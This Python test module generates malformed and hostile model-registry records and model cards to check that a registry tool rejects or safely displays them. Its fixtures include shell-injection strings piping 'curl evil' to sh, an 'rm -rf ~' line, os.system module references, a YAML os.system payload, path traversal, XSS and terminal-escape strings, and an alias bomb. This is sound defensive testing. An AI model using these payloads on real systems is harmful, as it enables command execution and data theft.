"""Records that are JSON, and say what none may say, or more than anybody should believe."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Iterator
from typing import Any

from hostile_case import EVERY, Case
from hostile_world import BOTH, MODEL, OTHER, WEIGHTS, World

from zoo.registry import layout
from zoo.registry.record import CARD

R = dict[str, Any]
_FILE = {"path": "x.txt", "sha256": "0" * 64, "size": 3}


def _set(*keys: str | int, to: object) -> Callable[[R], object]:
    def change(record: R) -> None:
        held: Any = record
        for key in keys[:-1]:
            held = held[key]
        held[keys[-1]] = to

    return change


def _without(*keys: str) -> Callable[[R], object]:
    def change(record: R) -> None:
        held: Any = record
        for key in keys[:-1]:
            held = held[key]
        del held[keys[-1]]

    return change


def _files(*entries: R) -> Callable[[R], object]:
    return lambda record: record["files"].extend(entries)


def _table(value: object, count: int = 70_000) -> R:
    return {f"k{i:x}": value for i in range(count)}


def _deep(depth: int) -> Any:
    made: Any = 1
    for _ in range(depth):
        made = {"a": made}
    return made


# What no command may take.
REFUSED: dict[str, Callable[[R], object]] = {
    **{f"without {key}": _without(key) for key in (
        "format", "model", "version", "prev", "created", "task", "preprocessing", "architecture",
        "plugin", "recipe", "data", "metrics", "licence", "environment", "files", "weights",
    )},
    **{f"{key} is null": _set(key, to=None) for key in (
        "format", "model", "version", "prev", "created", "task", "preprocessing", "architecture",
        "plugin", "recipe", "data", "metrics", "licence", "environment", "files", "weights",
        "ensemble", "parents", "source", "intervals", "calibration",
    )},
    **{f"{key} is a list": _set(key, to=[1]) for key in (
        "task", "preprocessing", "architecture", "plugin", "recipe", "data", "metrics",
        "environment", "ensemble",
    )},
    "format 2": _set("format", to=2),
    "format 0": _set("format", to=0),
    "format as text": _set("format", to="1"),
    "format as float": _set("format", to=1.0),
    "format as true": _set("format", to=True),
    "format of a later time": _set("format", to=2**62),
    "version 0": _set("version", to=0),
    "negative version": _set("version", to=-1),
    "version as float": _set("version", to=2.0),
    "version as text": _set("version", to="2"),
    "another version's": _set("version", to=3),
    "a version beyond all": _set("version", to=10**9),
    "another model's": _set("model", to=OTHER),
    "a look-alike's": _set("model", to="digits_tiny"),
    "size as float": _set("files", 0, "size", to=3.0),
    "negative size": _set("files", 0, "size", to=-1),
    "size beyond all": _set("files", 0, "size", to=2**62),
    "digest in capitals": _set("files", 0, "sha256", to="A" * 64),
    "digest of 63 digits": _set("files", 0, "sha256", to="a" * 63),
    "digest of 74 digits": _set("files", 0, "sha256", to="a" * 74),
    "digest that leads away": _set("files", 0, "sha256", to="../" * 20 + "etc/passwd"),
    "digest with a line": _set("files", 0, "sha256", to="a" * 64 + "\n"),
    "digest in other digits": _set("files", 0, "sha256", to="\u0661" * 64),
    "a file with an address": _files({**_FILE, "url": "https://evil.example"}),
    "no files": _set("files", to=[]),
    "a file twice": _files(_FILE, _FILE),
    "files that differ in case": _files(_FILE, {**_FILE, "path": "X.TXT"}),
    "a file that is a folder, too": _files(_FILE, {**_FILE, "path": "x.txt/y"}),
    "a folder that is a file, too": _files(_FILE, {**_FILE, "path": "X.txt/y"}),
    "folders that differ in case": _files(
        {**_FILE, "path": "a/x"}, {**_FILE, "path": "A/y"}
    ),
    "a file three deep": _files({**_FILE, "path": "a/b/c"}),
    "a file behind an empty folder": _files({**_FILE, "path": "a//c"}),
    "1,001 files": _files(*({**_FILE, "path": f"f{i}"} for i in range(1001))),
    "100,000 files": _set("files", to=[{}] * 100_000),
    "date without a zone": _set("created", to="2026-01-02T03:04:05"),
    "date in other digits": _set("created", to="\u0662026-01-02T03:04:05Z"),
    "date of month 13": _set("created", to="2026-13-02T03:04:05Z"),
    "date of hour 25": _set("created", to="2026-01-02T25:04:05Z"),
    "date with a line": _set("created", to="2026-01-02T03:04:05Z\n"),
    "no classes": _set("task", "classes", to=[]),
    "one class": _set("task", "classes", to=["a"]),
    "a class twice": _set("task", "classes", to=["a", "b", "a"]),
    "a class as number": _set("task", "classes", to=["a", "b", 1]),
    "90,000 classes, one twice": _set(
        "task", "classes", to=[f"c{i}" for i in range(90_000)] + ["c1"]
    ),
    "classes as table": _set("task", "classes", to={"a": 1, "b": 2}),
    "threshold 2": _set("task", to={"kind": "multilabel", "classes": ["a"], "threshold": 2.0}),
    "threshold as text": _set(
        "task", to={"kind": "multilabel", "classes": ["a"], "threshold": "0.5"}
    ),
    "a task with a module": _set(
        "task", to={"kind": "multiclass", "classes": ["a", "b"], "module": "os"}
    ),
    "channels 0": _set("architecture", "in_channels", to=0),
    "a million channels": _set("architecture", "in_channels", to=10**6),
    "channels as true": _set("architecture", "in_channels", to=True),
    "image of no pixels": _set("architecture", "image_size", to=[0, 5]),
    "image of 2^40 pixels": _set("architecture", "image_size", to=[2**20, 2**20]),
    "image of three sides": _set("architecture", "image_size", to=[4, 5, 6]),
    "an architecture with a module": _set("architecture", "module", to="os:system"),
    "options as list": _set("architecture", "options", to=[["hidden", 3]]),
    "a plugin with an address": _set("plugin", "url", to="git+https://evil.example/x"),
    "a distribution that is a flag": _set("plugin", "distribution", to="--index-url=evil"),
    "a distribution with an extra": _set("plugin", "distribution", to="zoo[evil]"),
    "a distribution with a command": _set("plugin", "distribution", to="zoo; curl evil|sh"),
    "a version with a command": _set("plugin", "version", to="1 && curl evil|sh"),
    "a version with a line": _set("plugin", "version", to="1\nrm -rf ~"),
    "libraries by the ten thousand": _set("plugin", "libraries", to=_table("")),
    "environment by the ten thousand": _set("environment", to=_table([])),
    "splits by the ten thousand": _set("data", "splits", to=_table(1)),
    "splits full of nothing": _set("data", "splits", to=_table({"a": 1, "b": 2}, 30_000)),
    "figures by the ten thousand": _set("metrics", to=_table(1)),
    "keys by the ten thousand": lambda record: record.update(_table(1)),
    "options by the ten thousand": _set("architecture", "options", to=_table(1)),
    "a recipe by the ten thousand": _set("recipe", to=_table("/etc/passwd", 40_000)),
    "a recipe too deep": _set("recipe", to=_deep(40)),
    "environment with a table": _set("environment", "x", to={"y": 1}),
    "licence of a megabyte": _set("licence", to="x" * 900_000),
    "licence of two lines": _set("licence", to="mit\nor not"),
    "licence as list": _set("licence", to=["mit"]),
    "samples as text": _set("data", "splits", "test", "samples", to="10"),
    "negative samples": _set("data", "splits", "test", "samples", to=-1),
    "samples beyond all": _set("data", "splits", "test", "samples", to=2**60),
    "intervals of nothing": _set("intervals", to={"test": {"magic": [0.1, 0.2, 0.95]}}),
    "intervals upside down": _set("intervals", to={"test": {"accuracy": [0.9, 0.2, 0.95]}}),
    "calibration by nothing": _set(
        "calibration", to={"method": "temperature", "temperature": 0.0}
    ),
    "a source of trained weights": _set(
        "source", to={"kind": "imported", "sha256": "0" * 64, "format": "torch"}
    ),
    "a network that is an ensemble, too": _set(
        "ensemble", to={"method": "mean", "options": {}, "members": [
            {"model": OTHER, "version": 1, "digest": "0" * 64},
        ]},
    ),
    "1,001 parents": _set("parents", to=[
        {"kind": "averaged_from", "model": OTHER, "version": 1, "digest": "0" * 64}
    ] * 1001),
    "parents by the ten thousand": _set("parents", to=[{}] * 100_000),
}  # fmt: skip
# What only verify can tell: that the record is another one than was published.
TOLD = {
    "prev of another chain": _set("prev", to="0" * 64),
    "prev of itself": lambda record: record.update(
        prev=hashlib.sha256(json.dumps(record).encode()).hexdigest()
    ),
}
# What is of the weights, and is not so.
SIZES = {"a byte more": 1, "a byte less": -1, "16 GiB more": 1 << 34, "as good as none": None}
# What only loading can tell: a network that does not fit, or never ends.
NETWORKS = {
    "an option of 10^9 layers": ("deep", 10**9),
    "layers without weights": ("hollow", 10**9),
    "layers in layers": ("nested", 10**9),
    "5,000 layers in layers": ("nested", 5000),
    "layers of 64 MB": ("heavy", 10**9),
    "a layer that no memory holds": ("tiny", 10**12),
    "a layer of 2^62": ("tiny", 2**62),
    "a negative layer": ("tiny", -3),
    "no layer": ("tiny", 0),
    "one filter more": ("tiny", 4),
    "an option as text": ("tiny", "3"),
    "an option as true": ("tiny", True),
    "an option as list": ("tiny", [3] * 100_000),
    "an option as table": ("tiny", {"a": {"b": 1}}),
    "a network that fails": ("failing", 3),
    "a network that is none": ("nothing", 3),
    "an architecture that is not there": ("os:system", 3),
    "an architecture with a path": ("../../tiny", 3),
    "a family that is not there": ("evil/tiny", 3),
}
# What may be said, and is only said.
SAID: dict[str, Callable[[R], object]] = {
    "calibrated": _set("calibration", to={"method": "temperature", "temperature": 2.0}),
    "calibrated by next to nothing": _set(
        "calibration", to={"method": "temperature", "temperature": 1e-300}
    ),
    "90,000 classes": _set("task", "classes", to=[f"c{i}" for i in range(90_000)]),
    "18,000 figures": _set("metrics", "test", to=_table(0.5, 18_000)),
    "figures in tables in tables": _set("metrics", "test", "deep", to=_deep(25)),
    "figures as lists": _set("metrics", "test", "rows", to=[[0] * 100] * 1000),
    "18,000 of the environment": _set("environment", to=_table("x", 18_000)),
    "a recipe with paths": _set("recipe", "dataset", to={"root": "/etc", "url": "file:///etc"}),
    "licence with markup": _set("licence", to="<img src=x onerror=alert(1)>[a](javascript:b)"),
    "licence with escapes": _set("licence", to="\x1b]0;owned\x07\x1b[2J\x9b31m"),
    "licence that turns around": _set("licence", to="\u202etim\u2066\u200f"),
    "licence with a link of a terminal": _set(
        "licence", to="\x1b]8;;https://evil\x1b\\mit\x1b]8;;"
    ),
    "data's licence of many lines": _set("data", "licence", to="a\n# b\n\x1b[31m" * 300),
    "citation with markup": _set("data", "citation", to="</script><script>alert(1)</script>"),
}


CARDS = {
    "empty": b"",
    "with escapes": b"# \x1b[2J\x1b]0;owned\x07 \xe2\x80\xae",
    "with markup": b"<script>alert(1)</script>\n[x](javascript:alert(1))\n![](file:///etc/passwd)",
    "with a program": b"---\nlicense: !!python/object/apply:os.system ['touch x']\n---\n",
    "that is no text": bytes(range(256)) * 100,
    "of 4 MB": b"#" * (4 << 20),
    "with lists in lists": b"> " * 50_000 + b"x",
    "with a bomb of names": b"---\na: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]\n---\n",
}


def cases() -> Iterator[Case]:
    for what, change in REFUSED.items():
        yield Case(f"record: {what}", _in_place(change))
    for what, more in SIZES.items():
        refuse = EVERY if what == "16 GiB more" else ("load", "pull", "verify")
        yield Case(f"record: weights of {what}", _in_place(_sized(more)), refuse)
    for what, change in TOLD.items():
        yield Case(f"record: {what}", _in_place(change), ("verify",))
    for what, (name, hidden) in NETWORKS.items():
        yield Case(f"record: {what}", _in_place(_network(name, hidden)), ("load",))
    for what, change in SAID.items():
        yield Case(f"record: {what}", _in_place(change), ("load",) if "90,000" in what else ())
    yield Case("record: of a megabyte and a byte", _too_long)
    yield Case("record: a million classes", _in_place(
        _set("task", "classes", to=[f"c{i}" for i in range(10**6)])
    ), large=True)  # fmt: skip
    for what, card in CARDS.items():
        yield Case(f"card: {what}", lambda world, card=card: world.put_file(card, CARD), ())
    for what, (number, model, reference) in {
        "the first in place of the second": (1, MODEL, f"{MODEL}@2"),
        "another model's": (1, OTHER, f"{MODEL}@2"),
        "an ensemble's": (1, BOTH, f"{MODEL}@2"),
    }.items():
        yield Case(
            f"a whole record, {what}",
            lambda world, number=number, model=model: world.put_record(
                world.files[layout.version(model, number)]
            ),
            references=(reference,),
        )


def _in_place(change: Callable[[R], object]) -> Callable[[World], object]:
    # What a change returns, as update() does not, is no record.
    return lambda world: world.change_record(lambda record: change(record) and None)


def _network(name: str, hidden: object) -> Callable[[R], object]:
    return lambda record: record["architecture"].update(name=name, options={"hidden": hidden})


def _sized(more: int | None) -> Callable[[R], object]:
    def change(record: R) -> None:
        file = next(one for one in record["files"] if one["path"] == WEIGHTS)
        file["size"] = 0 if more is None else file["size"] + more

    return change


def _too_long(world: World) -> None:
    data = world.files[layout.version(MODEL, 2)].rstrip()
    world.put_record(data + b" " * ((1 << 20) + 1 - len(data)))
